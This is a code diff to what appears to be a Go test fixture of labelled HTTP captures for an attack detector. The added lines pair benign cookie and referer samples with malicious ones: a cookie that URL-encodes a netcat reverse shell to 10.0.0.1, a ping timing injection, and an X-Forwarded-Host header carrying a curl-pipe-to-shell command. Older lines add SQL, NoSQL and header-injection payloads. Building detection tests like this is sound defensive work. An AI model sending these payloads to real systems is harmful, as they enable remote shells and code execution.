@@ -374,6 +374,12 @@ func captures() []toolCapture {
 	other("POST", "/api/items", `<?xml version="1.0"?><items><item id="1' union select password from users--">x</item></items>`, [2]string{"Content-Type", "application/xml"})
 	other("GET", "/redirect?to=%0d%0aSet-Cookie:%20session=attacker", "")
 	other("POST", "/login", `{"username":"admin","password":{"$ne":null}}`, [2]string{"Content-Type", "application/json"})
+	// Cookies are form-encoded by the clients that set them, "+" for a
+	// space; a header that holds a URL is parsed as one only when it
+	// starts with a scheme.
+	other("GET", "/account", "", [2]string{"Cookie", "session=abc; pref=%3B+nc+-e+%2Fbin%2Fsh+10.0.0.1+4444"})
+	other("GET", "/account", "", [2]string{"Cookie", "lang=%26+ping+-n+10+127.0.0.1+%26"})
+	other("GET", "/", "", [2]string{"X-Forwarded-Host", "$(curl http://10.0.0.9/x|sh)"})
 	benign := func(method, target, body string, headers ...[2]string) {
 		cs = append(cs, toolCapture{"other", false, method, target, headers, body})
 	}
@@ -390,6 +396,8 @@ func captures() []toolCapture {
 	benign("POST", "/api/drawings", `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10"><path d="M0 0 L10 10 Z" style="fill:#fff;stroke:none"/><a xlink:href="#top"><text x="1" y="2" font-family="Arial, sans-serif">Select all &amp; drop</text></a></svg>`, [2]string{"Content-Type", "application/xml"})
 	benign("GET", "/account", "", [2]string{"Cookie", "JSESSIONID=1A2B3C; prefs=eyJ0aGVtZSI6ImRhcmsifQ==; token=AbrO0ABxyz"})
 	benign("GET", "/docs?path=guide/deploy/web-inf-layout.html", "")
+	benign("GET", "/account", "", [2]string{"Cookie", "sid=AbC+dEf%2Fg%3D%3D; q=blue+shoes+%26+socks; _ga=GA1.2.3"})
+	benign("GET", "/", "", [2]string{"Referer", "https://shop.example/search?q=c%2B%2B+books&page=2"})
 
 	for i := range cs {
 		cs[i].category = "captures/" + cs[i].category
